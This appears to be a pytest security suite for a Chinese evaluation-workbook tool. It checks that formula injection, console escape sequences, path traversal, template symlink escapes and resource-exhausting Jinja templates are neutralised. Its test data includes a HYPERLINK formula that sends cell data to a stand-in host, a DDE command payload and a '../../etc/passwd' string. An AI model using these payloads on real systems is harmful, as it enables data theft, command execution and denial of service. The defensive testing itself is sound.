"""Security: what a clerk's text, a case file or a template can make evaltool do (issue 18, issue 12 item 3).

Every file is written by the real commands (CliRunner over evaltool's click group) and read back from
its bytes: the sheet XML, the .docx, the YAML.
"""
from __future__ import annotations

import copy
import os
import re
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from lxml import etree

from evaltool.cli import main
from evaltool.core.model import REPORT_FIELDS

CASES = Path(__file__).parent / "cases"
BASE_CASE = CASES / "seed002-各项工作运转经费.yaml"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")',
    '=cmd|"/c calc"!A1',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
# CI runs a sample; EVALTOOL_FULL_SECURITY=1 runs every payload through every path.
SAMPLE = PAYLOADS if os.environ.get("EVALTOOL_FULL_SECURITY") else [PAYLOADS[0], PAYLOADS[5], PAYLOADS[7]]


def run(*args: str, ok=(0, 1)):
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code in ok, (args, result.exit_code, result.output)
    return result


def payload_case(payload: str) -> dict:
    """The seed case with every text field the clerk types set to payload."""
    d = yaml.safe_load(BASE_CASE.read_text("utf-8"))
    d = copy.deepcopy(d)
    for key in ("项目名称", "主管部门", "实施单位"):
        d[key] = payload
    d["年度总体目标"] = {"预期目标": payload, "实际完成情况": payload}
    for ind in d["绩效指标"]:
        for key in ("三级指标", "偏差原因分析及改进措施"):
            ind[key] = payload
    d["绩效指标"][0]["年度指标值"] = payload
    d["绩效指标"][0]["实际完成值"] = payload
    d["报告素材"] = {key: payload for key in REPORT_FIELDS}
    d["项目基本信息"] = {"项目负责人": payload, "联系电话": payload}
    return d


def write_case(d: dict, path: Path) -> Path:
    path.write_text(yaml.safe_dump(d, allow_unicode=True, sort_keys=False), "utf-8")
    return path


def sheet_cells(path: Path) -> list[dict]:
    """Every cell of every worksheet, from the XML: sheet, ref, t, formula?, text, quotePrefix of its style."""
    out = []
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            root = etree.fromstring(zf.read("xl/sharedStrings.xml"))
            shared = ["".join(si.itertext()) for si in root.findall("m:si", NS)]
        styles = etree.fromstring(zf.read("xl/styles.xml"))
        xfs = styles.find("m:cellXfs", NS)
        quote = [xf.get("quotePrefix") in ("1", "true") for xf in xfs.findall("m:xf", NS)] if xfs is not None else []
        for name in names:
            if not re.match(r"xl/worksheets/[^/]+\.xml$", name):
                continue
            root = etree.fromstring(zf.read(name))
            for c in root.iter("{%s}c" % NS["m"]):
                t = c.get("t", "n")
                v = c.find("m:v", NS)
                if t == "s" and v is not None:
                    text = shared[int(v.text)]
                elif t == "inlineStr":
                    inline = c.find("m:is", NS)
                    text = "".join(inline.itertext()) if inline is not None else ""
                else:
                    text = v.text if v is not None else None
                s = int(c.get("s", "0"))
                out.append({"sheet": name, "ref": c.get("r"), "t": t, "formula": c.find("m:f", NS) is not None,
                            "text": text, "quote": quote[s] if s < len(quote) else False})
    return out


def assert_text_only(path: Path, payload: str, min_hits: int = 1) -> None:
    """No formula anywhere; every cell holding the payload is a text cell marked quotePrefix."""
    cells = sheet_cells(path)
    formulas = [c for c in cells if c["formula"]]
    assert not formulas, f"{path.name}: formulas written: {formulas[:3]}"
    hits = [c for c in cells if c["text"] is not None and payload in c["text"]]
    assert len(hits) >= min_hits, f"{path.name}: payload {payload!r} not found as text"
    for c in hits:
        assert c["t"] in ("s", "inlineStr"), c
        if c["text"] == payload:
            assert c["quote"], f"{path.name} {c['sheet']} {c['ref']}: {payload!r} without quotePrefix"


@pytest.mark.parametrize("payload", SAMPLE)
def test_clerk_text_stays_text_in_every_file(tmp_path, payload):
    case = write_case(payload_case(payload), tmp_path / "case.yaml")
    # new --from a case file holding the payload (it also scores the new workbook in place).
    made = tmp_path / "自评表.xlsx"
    run("new", "--from", str(case), "-o", str(made))
    assert_text_only(made, payload, min_hits=10)
    # score in place, twice (the second run reads the 校验结果 sheet the first one wrote).
    run("score", str(made))
    run("score", str(made))
    assert_text_only(made, payload, min_hits=10)
    # score -o
    other = tmp_path / "另存.xlsx"
    run("score", str(made), "-o", str(other))
    assert_text_only(other, payload, min_hits=10)
    # export -> the clerk's text exactly, then new --from the export
    exported = tmp_path / "导出.yaml"
    run("export", str(made), "-o", str(exported))
    data = yaml.safe_load(exported.read_text("utf-8"))
    assert data["项目名称"] == payload and data["主管部门"] == payload and data["实施单位"] == payload
    # The reader trims whitespace around the long texts (goals, 报告素材); the rest is kept exactly.
    assert data["年度总体目标"]["预期目标"] == payload.strip()
    assert all(i["三级指标"] == payload for i in data["绩效指标"])
    assert all(data["报告素材"][key] == payload.strip() for key in REPORT_FIELDS)
    assert data["项目基本信息"]["项目负责人"] == payload
    again = tmp_path / "再建.xlsx"
    run("new", "--from", str(exported), "-o", str(again))
    assert_text_only(again, payload, min_hits=10)
    # collect: the 汇总 holds project, department, unit names as text
    folder = tmp_path / "收到"
    folder.mkdir()
    for i, f in enumerate((made, again)):
        (folder / f"{i}.xlsx").write_bytes(f.read_bytes())
    summary = tmp_path / "汇总.xlsx"
    run("collect", str(folder), "-o", str(summary))
    assert_text_only(summary, payload, min_hits=3)


def test_clerk_text_is_stored_byte_for_byte(tmp_path):
    """The value read back is exactly the clerk's text: no apostrophe, no stripped tab or CR."""
    import openpyxl

    for n, payload in enumerate(PAYLOADS):
        case = write_case(payload_case(payload), tmp_path / f"c{n}.yaml")
        made = tmp_path / f"w{n}.xlsx"
        run("new", "--from", str(case), "-o", str(made))
        ws = openpyxl.load_workbook(made)["自评表"]
        assert ws["C3"].value == payload and ws["C3"].data_type == "s"


@pytest.mark.parametrize("payload", SAMPLE[:1])
def test_report_keeps_clerk_text_verbatim(tmp_path, payload):
    import docx

    case = write_case(payload_case(payload), tmp_path / "case.yaml")
    out = tmp_path / "报告.docx"
    run("report", str(case), "-o", str(out))
    doc = docx.Document(str(out))
    texts = [p.text for p in doc.paragraphs] + [c.text for t in doc.tables for r in t.rows for c in r.cells]
    assert any(payload in t for t in texts)
    assert not any(("'" + payload) in t for t in texts)


# ---- clerk text is inert on the console (issue 12 item 3, item 5) ----------------------------------
MARKUP_NAMES = ["[bold]粗体[/]项目", "[link=http://example.invalid]点我[/link]", "[/]", "旧名\x1b[2J\x1b[31m红色",
                "铃\x07声\r覆盖", "反\u202e转", "结尾反斜杠\\", ":warning: 表情"]


def shown(name: str) -> str:
    """How the console shows a name: markup literally, control characters as symbols."""
    from evaltool.cli import _CONTROL_RE, _visible

    return _CONTROL_RE.sub(_visible, name)


@pytest.mark.parametrize("name", MARKUP_NAMES if os.environ.get("EVALTOOL_FULL_SECURITY") else MARKUP_NAMES[:4:3])
def test_markup_and_escapes_in_names_print_literally(tmp_path, name):
    d = payload_case("普通文字")
    d["项目名称"] = name
    d["主管部门"] = name
    d["绩效指标"][1]["三级指标"] = name
    case = write_case(d, tmp_path / "case.yaml")
    outputs = []
    made = tmp_path / "自评表.xlsx"
    outputs.append(run("new", "--from", str(case), "-o", str(made)).output)
    outputs.append(run("check", str(made)).output)
    outputs.append(run("check", str(case)).output)
    before = made.stat().st_ino
    r = run("score", str(made))
    outputs.append(r.output)
    assert made.stat().st_ino != before  # replaced (a new file renamed into place), and said so without a crash
    outputs.append(run("export", str(made), "-o", str(tmp_path / "x.yaml")).output)
    outputs.append(run("report", str(made), "-o", str(tmp_path / "r.docx")).output)
    folder = tmp_path / "收到"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(made.read_bytes())
    outputs.append(run("collect", str(folder), "-o", str(tmp_path / "汇总.xlsx")).output)
    from evaltool.workbook.cellvalue import xml_safe

    for out in outputs[:5]:
        assert "内部错误" not in out and "MarkupError" not in out
        # in a workbook the characters XML cannot hold are gone; the rest shows as typed
        flat = out.replace("\n", "")
        assert shown(name) in flat or shown(xml_safe(name)) in flat, out[:500]
    for out in outputs:
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
        assert "内部错误" not in out


def test_json_output_has_no_raw_control_characters(tmp_path):
    d = payload_case("普通文字")
    d["项目名称"] = "名\x9b31m称\u202e"
    r = run("check", str(write_case(d, tmp_path / "c.yaml")), "--json")
    assert "\x9b" not in r.output and "\u202e" not in r.output
    import json

    assert d["项目名称"] in json.dumps(json.loads(r.output), ensure_ascii=False)  # still the same text


def test_a_crash_after_the_save_says_the_file_was_written(tmp_path, monkeypatch):
    """If anything fails after the workbook was replaced, the clerk is told it was written and is
    complete — never "您的文件没有被修改"."""
    from evaltool.workbook import workbook_cli as commands

    case = write_case(payload_case("普通文字"), tmp_path / "c.yaml")
    made = tmp_path / "自评表.xlsx"
    run("new", "--from", str(case), "-o", str(made))
    before = made.stat().st_ino

    def broken(out, text):
        raise RuntimeError("console gone")

    monkeypatch.setattr(commands, "emit", broken)
    r = CliRunner().invoke(main, ["score", str(made)])
    assert r.exit_code == 3
    assert made.stat().st_ino != before  # the workbook was replaced before the crash
    assert "没有被修改" not in r.output
    assert "已写入" in r.output and "文件完整" in r.output and "自评表.xlsx" in r.output


def test_a_crash_before_the_save_leaves_the_file_and_says_so(tmp_path, monkeypatch):
    from evaltool.workbook import workbook_cli as commands

    case = write_case(payload_case("普通文字"), tmp_path / "c.yaml")
    made = tmp_path / "自评表.xlsx"
    run("new", "--from", str(case), "-o", str(made))
    before = made.read_bytes()

    def broken(out, fn):
        raise RuntimeError("cannot render")

    monkeypatch.setattr(commands, "rendered", broken)
    r = CliRunner().invoke(main, ["score", str(made)])
    assert r.exit_code == 3
    assert made.read_bytes() == before
    assert "您的文件没有被修改" in r.output


# ---- -o onto a file of another kind (issue 18) ---------------------------------------------------------
@pytest.fixture
def form(tmp_path) -> Path:
    made = tmp_path / "自评表.xlsx"
    run("new", "--from", str(BASE_CASE), "-o", str(made))
    return made


def _docx(path: Path) -> Path:
    import docx

    doc = docx.Document()
    doc.add_paragraph("科员自己写的报告")
    doc.save(str(path))
    return path


def test_score_o_refuses_an_existing_word_report(tmp_path, form):
    report = _docx(tmp_path / "报告.docx")
    before = report.read_bytes()
    r = CliRunner().invoke(main, ["score", str(form), "-o", str(report)])
    assert r.exit_code == 2 and "Word" in r.output or ".xlsx" in r.output
    assert r.exit_code == 2
    assert report.read_bytes() == before


def test_score_o_refuses_a_clerks_own_workbook_but_replaces_an_earlier_result(tmp_path, form):
    import openpyxl

    own = tmp_path / "别的表.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "科员的数据"
    wb.save(own)
    before = own.read_bytes()
    r = CliRunner().invoke(main, ["score", str(form), "-o", str(own)])
    assert r.exit_code == 2 and "已存在" in r.output
    assert own.read_bytes() == before
    result = tmp_path / "结果.xlsx"
    run("score", str(form), "-o", str(result))
    run("score", str(form), "-o", str(result))  # an earlier result of evaltool may be replaced
    # a .docx renamed .xlsx is not a workbook
    fake = _docx(tmp_path / "假.docx").rename(tmp_path / "假.xlsx")
    before = fake.read_bytes()
    r = CliRunner().invoke(main, ["score", str(form), "-o", str(fake)])
    assert r.exit_code == 2 and fake.read_bytes() == before


@pytest.mark.parametrize("args", [
    ["export", "{form}", "-o", "{tmp}/x.xlsx"],
    ["export", "{form}", "-o", "{tmp}/规则.yaml"],
    ["report", "{form}", "-o", "{form}"],
    ["report", "{form}", "-o", "{tmp}/x.xlsx"],
    ["report", "{form}", "-o", "{tmp}/假报告.docx"],
    ["score", "{form}", "-o", "{tmp}/文件夹.xlsx"],
    ["template", "-o", "{tmp}/模板.docx"],
])
def test_o_refuses_foreign_targets(tmp_path, form, args):
    (tmp_path / "规则.yaml").write_text("名称: 本地规则\n继承: 国家标准\n", "utf-8")
    (tmp_path / "x.xlsx").write_bytes(form.read_bytes())
    (tmp_path / "假报告.docx").write_bytes(form.read_bytes())  # a workbook named .docx
    (tmp_path / "文件夹.xlsx").mkdir()
    args = [a.format(form=form, tmp=tmp_path) for a in args]
    snap = {p: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 2, r.output
    assert "Traceback" not in r.output and re.search(r"[\u4e00-\u9fff]", r.output)
    assert {p: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == snap


def test_report_file_names_from_project_names_are_safe():
    from evaltool.core.fileio import safe_filename

    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert safe_filename("CON") == "_CON" and safe_filename("nul.txt") == "_nul.txt"
    assert safe_filename("...隐藏") == "隐藏"
    assert safe_filename("a\x00b\x1bc\u202e") == "a_b_c"
    assert safe_filename("名" * 300) == "名" * 60
    assert safe_filename("结尾点. ") == "结尾点"
    assert safe_filename("") == "项目" and safe_filename("///") == "项目"
    assert safe_filename("C:\\Windows\\x") == "C_Windows_x"


# ---- report templates: the folder only, bounded in time and size (issue 18) ------------------------------
SECRET = "机密-不应出现在报告中-7f3a"


def _report_with(tmp_path: Path, folder: Path):
    """`evaltool report --template folder` on the seed case: (exit code, output, the .docx text or None)."""
    out = tmp_path / "报告.docx"
    r = CliRunner().invoke(main, ["report", str(BASE_CASE), "--template", str(folder), "-o", str(out)])
    text = None
    if out.exists():
        import docx

        text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    return r.exit_code, r.output, text


def _secret_file(tmp_path: Path) -> Path:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    return secret


@pytest.mark.parametrize("how", ["main", "include", "import", "from-import", "nested-dir", "folder-link"])
def test_template_links_out_of_the_folder_are_refused(tmp_path, how):
    secret = _secret_file(tmp_path)
    folder = tmp_path / "模板"
    folder.mkdir()
    if how == "main":
        (folder / "report.md.j2").symlink_to(secret)
    elif how == "include":
        (folder / "part.md.j2").symlink_to(secret)
        (folder / "report.md.j2").write_text("# 标题\n{% include 'part.md.j2' %}\n", "utf-8")
    elif how == "import":
        (tmp_path / "m.j2").write_text("{% macro leak() %}" + SECRET + "{% endmacro %}", "utf-8")
        (folder / "m.md.j2").symlink_to(tmp_path / "m.j2")
        (folder / "report.md.j2").write_text("{% import 'm.md.j2' as m %}# 标题\n{{ m.leak() }}\n", "utf-8")
    elif how == "from-import":
        (tmp_path / "m.j2").write_text("{% macro leak() %}" + SECRET + "{% endmacro %}", "utf-8")
        (folder / "macros.md.j2").symlink_to(tmp_path / "m.j2")  # shadows a built-in name
        (folder / "report.md.j2").write_text("{% from 'macros.md.j2' import leak %}# 标题\n{{ leak() }}\n", "utf-8")
    elif how == "nested-dir":
        (folder / "sub").symlink_to(tmp_path, target_is_directory=True)
        (folder / "report.md.j2").write_text("# 标题\n{% include 'sub/secret.txt' %}\n", "utf-8")
    else:  # the folder itself is fine as a link; a file in it linking out is not
        real = tmp_path / "真模板"
        real.mkdir()
        (real / "report.md.j2").symlink_to(secret)
        folder.rmdir()
        folder.symlink_to(real, target_is_directory=True)
    code, output, text = _report_with(tmp_path, folder)
    assert code == 2, output
    assert SECRET not in output and text is None
    assert "模板目录以外" in output and "拒绝" in output


def test_template_links_inside_the_folder_still_work(tmp_path):
    folder = tmp_path / "模板"
    folder.mkdir()
    (folder / "real.md.j2").write_text("# 某市财政局绩效评价报告\n## 一、概况\n{{ project.name }}\n", "utf-8")
    (folder / "report.md.j2").symlink_to(folder / "real.md.j2")
    code, output, text = _report_with(tmp_path, folder)
    assert code in (0, 1), output
    assert "某市财政局绩效评价报告" in text


HOSTILE_TEMPLATES = {
    "nested loops": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "nested loops over a list": "{% set x = range(1000)|list %}{% for a in x %}{% for b in x %}{% for c in x %}"
                                "{% endfor %}{% endfor %}{% endfor %}",
    "huge int by squaring": "{% set ns = namespace(x=10**60) %}{% for i in range(40) %}{% set ns.x = ns.x * ns.x %}"
                            "{% endfor %}{{ ns.x }}",
    "huge int power": "{{ (10 ** 60) ** 60 }}",
    "string doubling": "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
    "list doubling": "{% set ns = namespace(l=[1]) %}{% for i in range(40) %}{% set ns.l = ns.l + ns.l %}{% endfor %}",
    "huge width filter": "{{ 'x'|center(1000000000) }}",
    "huge width method": "{{ 'x'.ljust(1000000000) }}",
    "huge percent format": "{{ '%0999999999d' % 1 }}",
    "huge format filter": "{{ '%0999999999d'|format(1) }}",
    "huge str.format": "{{ '{:>999999999}'.format(1) }}",
    "50,000 headings": "{% for i in range(50000) %}## 标题{{ i }}\n{% endfor %}",
    "2,000 table markers": "{% for i in range(2000) %}[[附表]]\n{% endfor %}",
    "endless output": "{% for a in range(100000) %}{% for b in range(100) %}很长的一段文字很长的一段文字{% endfor %}{% endfor %}",
    "recursion": "{% macro f(n) %}{{ f(n + 1) }}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
}


@pytest.mark.parametrize("name", list(HOSTILE_TEMPLATES))
def test_templates_are_bounded_in_time_and_size(tmp_path, name, monkeypatch):
    import dataclasses
    import time

    from evaltool.report import render

    monkeypatch.setattr(render, "LIMITS", dataclasses.replace(render.LIMITS, seconds=2.0))
    folder = tmp_path / "模板"
    folder.mkdir()
    (folder / "report.md.j2").write_text("# 标题\n" + HOSTILE_TEMPLATES[name] + "\n", "utf-8")
    started = time.monotonic()
    code, output, text = _report_with(tmp_path, folder)
    elapsed = time.monotonic() - started
    assert code == 2, output
    assert text is None
    assert "上限" in output or "递归" in output, output
    assert "Traceback" not in output and "内部错误" not in output
    assert elapsed < 30, f"{name}: {elapsed:.1f} s"  # a hang guard; the limit itself is 2 s of CPU


def test_template_limits_are_settings(tmp_path):
    import subprocess
    import sys

    folder = tmp_path / "模板"
    folder.mkdir()
    (folder / "report.md.j2").write_text("# 标题\n{% for i in range(30) %}## 标题{{ i }}\n{% endfor %}\n", "utf-8")
    env = dict(os.environ, EVALTOOL_TEMPLATE_HEADINGS="10")
    r = subprocess.run([sys.executable, "-m", "evaltool", "report", str(BASE_CASE), "--template", str(folder),
                        "-o", str(tmp_path / "r.docx")], capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 2 and "标题数的上限（10" in r.stderr + r.stdout
    assert not (tmp_path / "r.docx").exists()


# ---- the .docx and the YAML export keep the clerk's text (issue 12 item 3) -------------------------------
def test_report_drops_only_what_xml_cannot_hold(tmp_path):
    import docx

    d = payload_case("普通文字")
    d["项目名称"] = "名\x01称\x1b[31m"
    d["实施单位"] = "单\x0b位"
    d["绩效指标"][0]["三级指标"] = "指\x0c标"
    d["报告素材"] = {"项目背景": "背\x08景\ufffe说明"}
    out = tmp_path / "r.docx"
    r = run("report", str(write_case(d, tmp_path / "c.yaml")), "-o", str(out))
    assert "内部错误" not in r.output
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert "名称[31m" in text and "背景说明" in text
    # the case file itself is not changed
    assert yaml.safe_load((tmp_path / "c.yaml").read_text("utf-8"))["项目名称"] == "名\x01称\x1b[31m"


YAML_TEXTS = ["=1+1", "- 列表?", "@x", "#不是注释", "key: value", "yes", "null", "1e3", "0x1F", "  前后空格  ",
              "\t制表", "多\n行\n", "\r回车", "引号'\"", "{a: 1}", "[1, 2]", "!tag", "&anchor", "*alias", "%", "`",
              "\x85下一行", "\u2028行分隔", "\ufeff开头", "~", "2023-01-01", "010", "+1", ".inf", "<<"]


def test_yaml_export_round_trips_any_text_exactly(tmp_path):
    from evaltool.core.caseio import dump_case, parse_case

    project = parse_case(BASE_CASE.read_text("utf-8"))
    for text in YAML_TEXTS:
        project.name = text
        project.report = {"项目背景": text}
        again = parse_case(dump_case(project))
        assert again.name == text, repr(text)
        assert again.report["项目背景"] == text, repr(text)
